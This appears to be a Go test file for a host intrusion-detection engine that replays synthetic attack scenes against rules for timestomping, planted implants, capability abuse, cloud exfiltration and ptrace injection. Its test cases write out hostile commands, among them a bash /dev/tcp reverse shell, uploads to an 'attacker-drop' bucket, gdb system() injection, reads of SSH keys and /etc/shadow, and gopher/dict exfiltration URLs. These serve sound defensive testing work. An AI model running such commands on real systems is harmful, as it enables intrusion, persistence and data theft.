package detect

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/auditchain/auditchain/parser"
)

func TestTimestompTargets(t *testing.T) {
	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"touch", "-r", "/etc/a.ini", "/usr/share/php/.x.tcl"}, []string{"/usr/share/php/.x.tcl"}},
		{[]string{"touch", "--date=2024-01-01", "f"}, []string{"f"}},
		{[]string{"touch", "-ct", "202401011000", "f"}, []string{"f"}},
		{[]string{"touch", "/var/run/app.stamp"}, nil}, // now: no time chosen, nothing hidden
		{[]string{"touch", "-c", "f"}, nil},
	} {
		if got := TimestompTargets(c.args); !slices.Equal(got, c.want) {
			t.Errorf("%q: %q, want %q", c.args, got, c.want)
		}
	}
}

func TestTouchTargets(t *testing.T) {
	for _, c := range []struct {
		args []string
		want []string
	}{
		{[]string{"touch", "-r", "/etc/a.ini", "/etc/b.ini", "/usr/share/php/.x.tcl"}, []string{"/etc/b.ini", "/usr/share/php/.x.tcl"}},
		{[]string{"touch", "-d", "2024-01-01 10:00", "f"}, []string{"f"}},
		{[]string{"touch", "-cr", "ref", "a"}, []string{"a"}},
		{[]string{"touch", "--reference=ref", "a", "b"}, []string{"a", "b"}},
		{[]string{"touch", "--date", "yesterday", "--", "-odd"}, []string{"-odd"}},
		{[]string{"touch", "-t", "202401011000"}, nil},
		{[]string{"cp", "-r", "a", "b"}, nil},
	} {
		if got := TimestompTargets(c.args); !slices.Equal(got, c.want) {
			t.Errorf("%q: %q, want %q", c.args, got, c.want)
		}
	}
}

// TestTimestompedPlantRun: a file the intrusion's root shell hid by its
// times (touch -r, in the session its ssh opened) and no watch saw written
// is its file; root's job running it later through a background launch
// (its fork unrecorded, the program under init) is the plant run by what
// it hooked, the launching shell quoted beside it, and the program's
// connection and children are the intrusion's (shop-giftcard's Tcl
// implant).
func TestTimestompedPlantRun(t *testing.T) {
	e, s := webShellScene(t)
	// the web shell's reverse shell: node connects out, a shell on it
	s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/node", "node", "-e", "require('net').connect(4451,'127.0.0.1')")
	e.Observe(s.connect(210, 201, 33, "/usr/bin/node", "127.0.0.1", 4451), s.tree)
	s.exec(211, 210, 33, "www-data", "/tmp", "/usr/bin/dash", "/bin/sh", "-i")
	// root through sudo in that channel, hiding its files by their times
	s.exec(212, 211, 0, "root", "/tmp", "/usr/bin/sudo", "sudo", "-n", "sh")
	s.exec(213, 212, 0, "root", "/tmp", "/usr/bin/dash", "sh")
	got := e.Observe(s.exec(214, 213, 0, "root", "/tmp", "/usr/bin/touch", "touch", "-r", "/etc/php/8.2/cli/conf.d/20-posix.ini", "/usr/share/php/.zend-compat.tcl"), s.tree)
	if has(got, "timestomp-web") == nil {
		t.Fatalf("the touch -r in the channel: %v, want timestomp-web", ids(got))
	}
	s.t = s.t.Add(30 * time.Second)
	// root's cron job, no relation to the intrusion in the tree
	s.exec(300, 1, 0, "root", "/root", "/usr/sbin/cron", "/usr/sbin/CRON", "-f")
	s.exec(301, 300, 0, "root", "/root", "/usr/bin/php8.2", "/usr/bin/php", "/usr/local/lib/shop/expiry.php")
	e.Observe(s.exec(302, 301, 0, "root", "/root", "/usr/bin/dash", "sh", "-c", "setsid /usr/bin/tclsh /usr/share/php/.zend-compat.tcl >/dev/null 2>&1 &"), s.tree)
	run := e.Observe(s.exec(305, 1, 0, "root", "/root", "/usr/bin/setsid", "setsid", "/usr/bin/tclsh", "/usr/share/php/.zend-compat.tcl"), s.tree)
	f := findingOf(run, RulePlantedFileRun)
	if f == nil {
		t.Fatalf("the timestomped file run by root's job: %v, want planted-file-run", ids(run))
	}
	if f.Title != "Planted File Run By What It Hooked" || f.Stage != StagePersistence {
		t.Errorf("title %q stage %s, want the plant run by what it hooked on persistence", f.Title, f.Stage)
	}
	for _, want := range []string{"its times set by touch[214]", "inferred: started by pid 302 (dash)"} {
		if !strings.Contains(f.Reason, want) {
			t.Errorf("reason %q lacks %q", f.Reason, want)
		}
	}
	if !slices.ContainsFunc(f.Related, func(r *parser.Event) bool { return r.PID == 302 }) {
		t.Errorf("the launching shell's exec is not quoted beside the finding")
	}
	// setsid execs tclsh in its own pid: one act, no second finding
	if g := e.Observe(s.exec(305, 1, 0, "root", "/root", "/usr/bin/tclsh8.6", "/usr/bin/tclsh", "/usr/share/php/.zend-compat.tcl"), s.tree); findingOf(g, RulePlantedFileRun) != nil {
		t.Errorf("the wrapped exec fired again: %v", ids(g))
	}
	// the implant writes the shop's data: the intrusion's hands
	w := s.file(parser.KindFileWrite, 305, 1, 0, "/usr/bin/tclsh8.6", "/var/www/html/data/giftcards.csv", true)
	w.Paths = []parser.PathRecord{{Name: w.Path, Nametype: "NORMAL"}}
	if g := e.Observe(w, s.tree); has(g, "webroot-data-altered") == nil {
		t.Errorf("the implant's append to the shop's data: %v, want webroot-data-altered", ids(g))
	}
}

// TestWebrootDataAltered: the site's data file changed by the intrusion's
// hands (a shell in its channel, or one a program's own channel started
// to run what it received) is manipulation; the same write by the
// server's worker, by a program whose own connection is all the channel
// there is (an app's API client), by touch, or a new file, is not.
func TestWebrootDataAltered(t *testing.T) {
	reverseShell := func(t *testing.T) (*Engine, *synth) {
		e, s := webShellScene(t)
		s.exec(210, 201, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")
		s.exec(211, 210, 33, "www-data", "/tmp", "/usr/bin/bash", "bash", "-i")
		e.Observe(s.connect(211, 210, 33, "/usr/bin/bash", "127.0.0.1", 4444), s.tree)
		return e, s
	}
	t.Run("a shell in the channel appends to the data", func(t *testing.T) {
		e, s := reverseShell(t)
		if has(observeWrite(e, s, 211, 210, 33, "/usr/bin/bash", "/var/www/html/data/orders.csv", false), "webroot-data-altered") == nil {
			t.Error("no finding")
		}
	})
	t.Run("a new file", func(t *testing.T) {
		e, s := reverseShell(t)
		if has(observeWrite(e, s, 211, 210, 33, "/usr/bin/bash", "/var/www/html/data/new.csv", true), "webroot-data-altered") != nil {
			t.Error("a new file is not data changed")
		}
	})
	t.Run("touch in the channel", func(t *testing.T) {
		e, s := reverseShell(t)
		s.exec(212, 211, 33, "www-data", "/tmp", "/usr/bin/touch", "touch", "-r", "a", "/var/www/html/data/orders.csv")
		if has(observeWrite(e, s, 212, 211, 33, "/usr/bin/touch", "/var/www/html/data/orders.csv", false), "webroot-data-altered") != nil {
			t.Error("touch changes no content")
		}
	})
	t.Run("the worker writes its data", func(t *testing.T) {
		e, s := webShellScene(t)
		if has(observeWrite(e, s, 200, 1, 33, "/usr/sbin/php-fpm8.2", "/var/www/html/data/orders.csv", false), "webroot-data-altered") != nil {
			t.Error("the server's own write")
		}
	})
	t.Run("the account's API client writes its queue", func(t *testing.T) {
		e, s := webShellScene(t)
		// www-data's cron job: the account's shell starts the mailer
		s.exec(398, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/CRON", "-f")
		s.exec(399, 398, 33, "www-data", "/var/www", "/usr/bin/dash", "/bin/sh", "-c", "/usr/bin/tclsh /usr/local/lib/shop/newsletter.tcl")
		s.exec(400, 399, 33, "www-data", "/var/www", "/usr/bin/tclsh8.6", "/usr/bin/tclsh", "/usr/local/lib/shop/newsletter.tcl")
		e.Observe(s.connect(400, 399, 33, "/usr/bin/tclsh8.6", "127.0.0.1", 8025), s.tree)
		if e.state.info(s.tree.ByPID("", 400)[0]).channel == nil {
			t.Fatal("the scene is not what it means to be: the mailer's connection opened no channel")
		}
		if g := observeWrite(e, s, 400, 399, 33, "/usr/bin/tclsh8.6", "/var/www/html/data/newsletter-queue.csv", false); has(g, "webroot-data-altered") != nil {
			t.Errorf("a program's own connection alone: %v", ids(g))
		}
		// the same program running what it received through a shell (an
		// implant's task, shop-avatar's root php-fpm over UDP): its hands
		s.exec(401, 400, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", "mv -f /var/www/html/downloads/.p.zip /var/www/html/downloads/p.zip")
		s.exec(402, 401, 33, "www-data", "/var/www", "/usr/bin/mv", "mv", "-f", "/var/www/html/downloads/.p.zip", "/var/www/html/downloads/p.zip")
		if g := observeWrite(e, s, 402, 401, 33, "/usr/bin/mv", "/var/www/html/downloads/p.zip", false); has(g, "webroot-data-altered") == nil {
			t.Errorf("a task the program's channel ran through a shell: %v", ids(g))
		}
	})
}

// TestCapabilityRead: a program with a file capability that passes over
// permissions, run for the web server, naming another account's key is
// privilege abuse for credential access, whatever the program's name;
// the same program on the site's own files, or a program without the
// capability, is not.
func TestCapabilityRead(t *testing.T) {
	for _, c := range []struct {
		name string
		cap  uint64
		args []string
		want bool
	}{
		{"a tar copy with cap_dac_read_search reads a key", 1 << 2, []string{"/usr/local/bin/shop-snapshot", "-cf", "-", "/home/alice/.ssh/id_ed25519"}, true},
		{"the same reading /etc/shadow", 1 << 2, []string{"/usr/local/bin/shop-snapshot", "-cf", "-", "/etc/shadow"}, true},
		{"the same on the theme", 1 << 2, []string{"/usr/local/bin/shop-snapshot", "-czf", "/var/backups/theme.tgz", "/var/www/html/theme"}, false},
		{"no capability", 0, []string{"/usr/local/bin/shop-snapshot", "-cf", "-", "/home/alice/.ssh/id_ed25519"}, false},
		{"ping's raw socket only", 1 << 13, []string{"/usr/local/bin/shop-snapshot", "-cf", "-", "/root/.ssh/id_rsa"}, false},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			ev := s.exec(202, 201, 33, "www-data", "/var/www", c.args[0], c.args...)
			ev.Paths = []parser.PathRecord{{Name: c.args[0], Nametype: "NORMAL", CapFP: c.cap}, {Name: "/lib64/ld-linux-x86-64.so.2", Nametype: "NORMAL"}}
			f := findingOf(e.Observe(ev, s.tree), "capability-read-web")
			if (f != nil) != c.want {
				t.Fatalf("capability-read-web %v, want %v", f != nil, c.want)
			}
			if f != nil && f.Stage != StageSuspiciousSpawn {
				t.Errorf("stage %s, want 4", f.Stage)
			}
		})
	}
	if got := capNames(1<<2 | 1<<7 | 1<<50); !slices.Equal(got, []string{"cap_dac_read_search", "cap_setuid", "cap_50"}) {
		t.Errorf("capNames: %q", got)
	}
}

// TestCloudUpload: a cloud storage client sending local files to a bucket
// or a remote, for the web server, is data leaving (T1567.002); the same
// client fetching from the bucket, or listing it, is not.
func TestCloudUpload(t *testing.T) {
	for _, c := range []struct {
		args []string
		want bool
	}{
		{[]string{"rclone", "copy", "/dev/shm/.d/loot.tgz", "drop:bucket/x"}, true},
		{[]string{"rclone", "sync", "--transfers", "4", "/var/www/html/data", "mega:shop"}, true},
		{[]string{"rclone", "copy", "a:x", "b:y"}, false}, // remote to remote: nothing of this host
		{[]string{"rclone", "copy", "drop:bucket/tool", "/tmp/"}, false},
		{[]string{"rclone", "lsd", "drop:"}, false},
		{[]string{"aws", "s3", "cp", "/tmp/db.sql.gz", "s3://attacker-drop/db.sql.gz"}, true},
		{[]string{"aws", "s3", "cp", "--quiet", "/tmp/db.sql.gz", "s3://attacker-drop/"}, true},
		{[]string{"aws", "s3", "cp", "s3://vendor/feed.csv", "/var/www/html/data/feed.csv"}, false},
		{[]string{"gsutil", "cp", "/tmp/x.tgz", "gs://b/x.tgz"}, true},
		{[]string{"aws", "s3", "sync", "s3://a/", "s3://b/"}, false},
		{[]string{"az", "storage", "blob", "upload", "--file", "/tmp/x", "--container-name", "c"}, true},
	} {
		e, s := webShellScene(t)
		f := findingOf(e.Observe(s.exec(202, 201, 33, "www-data", "/tmp", "/usr/local/bin/"+c.args[0], c.args...), s.tree), "exfil-upload")
		if (f != nil) != c.want {
			t.Errorf("%q: exfil-upload %v, want %v", c.args, f != nil, c.want)
			continue
		}
		if f != nil && (f.Stage != StageExfiltrationImpact || !slices.Contains(f.Attack, "T1567.002")) {
			t.Errorf("%q: stage %s, ATT&CK %v", c.args, f.Stage, f.Attack)
		}
	}
}

// TestCompileWeb: a compiler run by the web shell on a source in /tmp is
// code brought in and built (high); below the server on the site's own
// source it is kept at medium; an admin's compile is nobody's concern.
func TestCompileWeb(t *testing.T) {
	for _, c := range []struct {
		uid  uint32
		exe  string
		args []string
		want Severity // 0: no finding
	}{
		{33, "/usr/bin/x86_64-linux-gnu-gcc-12", []string{"gcc", "-o", "/tmp/.p", "/tmp/.p.c", "-lpthread"}, SeverityHigh},
		{33, "/usr/bin/gcc", []string{"gcc", "-shared", "-fPIC", "-o", "ext.so", "ext.c"}, SeverityMedium},
		{0, "/usr/bin/gcc", []string{"gcc", "-o", "/tmp/x", "/tmp/x.c"}, 0},
		{33, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", []string{"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "/tmp/.p.c"}, 0},
	} {
		for _, f := range execAs(t, c.uid, "/tmp", c.exe, c.args...) {
			if !slices.Contains(f.RuleIDs, "compile-web") {
				continue
			}
			if c.want == 0 || f.Severity != c.want {
				t.Errorf("%q as %d: %s, want %v", c.args, c.uid, f.Severity, c.want)
			}
			c.want = -1
		}
		if c.want > 0 {
			t.Errorf("%q as %d: no compile-web finding", c.args, c.uid)
		}
	}
}

// TestReplacedNotRemoved: install (or cp --remove-destination, mv)
// unlinks its destination to put the new file there: a flagged file so
// replaced is not the intrusion removing it; an rm of it is.
func TestReplacedNotRemoved(t *testing.T) {
	const conf = "/etc/supervisor/conf.d/kc.conf"
	for _, c := range []struct {
		args []string
		want bool
	}{
		{[]string{"install", "-m", "644", "/var/tmp/.kw/kc.conf", conf}, false},
		{[]string{"install", "-m", "644", "/var/tmp/.kw/kc.conf", "/etc/supervisor/conf.d/"}, false},
		{[]string{"rm", "-f", conf}, true},
	} {
		e, s := webShellScene(t)
		w := s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", conf, true)
		if has(e.Observe(w, s.tree), "web-persistence-file-write") == nil {
			t.Fatal("the scene's write is not flagged")
		}
		s.exec(210, 201, 33, "www-data", "/var/www", "/usr/bin/"+c.args[0], c.args...)
		got := e.Observe(s.file(parser.KindUnlink, 210, 201, 33, "/usr/bin/"+c.args[0], conf, true), s.tree)
		if (findingOf(got, "own-file-removed") != nil) != c.want {
			t.Errorf("%q: own-file-removed %v, want %v", c.args, findingOf(got, "own-file-removed") != nil, c.want)
		}
	}
}

// TestPtraceInject: a debugger attached to a live process and told to
// make it call a function takes it over; another account's process is
// that account reached (6), the caller's own is kept at medium (4); a
// backtrace, as an administrator takes one, is no finding.
func TestPtraceInject(t *testing.T) {
	for _, c := range []struct {
		name string
		args []string
		rule string
	}{
		{"system() in alice's tail", []string{"gdb", "-nx", "-batch", "-p", "4603", "-ex", `call (int)system("id > /tmp/.g")`, "-ex", "detach"}, "ptrace-inject-account"},
		{"--pid= and python", []string{"gdb", "--pid=4603", "-batch", "-ex", "python import os; os.system('id')"}, "ptrace-inject-account"},
		{"root's own process", []string{"gdb", "-p", "4700", "-batch", "-ex", `call (void*)dlopen("/tmp/x.so", 2)`}, "ptrace-inject"},
		{"a backtrace of alice's tail", []string{"gdb", "-p", "4603", "-batch", "-ex", "info sharedlibrary", "-ex", "bt 6"}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, s := webShellScene(t)
			s.exec(4603, 4600, 2002, "alice", "/home/alice", "/usr/bin/tail", "tail", "-f", "/var/log/shop.log")
			s.exec(4700, 1, 0, "root", "/", "/usr/sbin/cron", "/usr/sbin/cron", "-f")
			got := e.Observe(s.exec(500, 499, 0, "root", "/root", "/usr/bin/gdb", c.args...), s.tree)
			a, o := findingOf(got, "ptrace-inject-account"), findingOf(got, "ptrace-inject")
			switch c.rule {
			case "ptrace-inject-account":
				if a == nil || a.Stage != StageLateralMovement || a.Severity != SeverityHigh {
					t.Errorf("%v, want ptrace-inject-account high on 6", ids(got))
				}
			case "ptrace-inject":
				if o == nil || a != nil || o.Stage != StageSuspiciousSpawn || o.Severity != SeverityMedium {
					t.Errorf("%v, want ptrace-inject medium on 4", ids(got))
				}
			default:
				if a != nil || o != nil {
					t.Errorf("%v, want no injection finding", ids(got))
				}
			}
		})
	}
	if got := attachPID([]string{"gdb", "-batch", "-ex", "attach 77"}); got != 77 {
		t.Errorf("attachPID: %d", got)
	}
}

// TestExfilURLChunks: encoded chunks in the address of a protocol no web
// application speaks are a file leaving; a dictionary lookup of a word,
// or an HTTP address with a token, is not.
func TestExfilURLChunks(t *testing.T) {
	chunk := strings.Repeat("H4sIAAAAAAAAA-1bW3PbthL2a", 4)
	for _, c := range []struct {
		uid  uint32
		args []string
		want Severity
	}{
		{0, []string{"curl", "-s", "-m", "3", "dict://127.0.0.1:2628/define:" + chunk + ":7"}, SeverityMedium},
		{33, []string{"curl", "-s", "gopher://198.51.100.4:70/_" + chunk}, SeverityHigh},
		{0, []string{"curl", "dict://dict.org/define:serendipity"}, 0},
		{33, []string{"curl", "-s", "https://api.example.com/v1/x?token=" + chunk}, 0},
	} {
		var got Severity
		for _, f := range execAs(t, c.uid, "/tmp", "/usr/bin/curl", c.args...) {
			if slices.Contains(f.RuleIDs, "exfil-url-chunks") {
				got = f.Severity
			}
		}
		if got != c.want {
			t.Errorf("%q as %d: %v, want %v", c.args[len(c.args)-1][:20], c.uid, got, c.want)
		}
	}
}
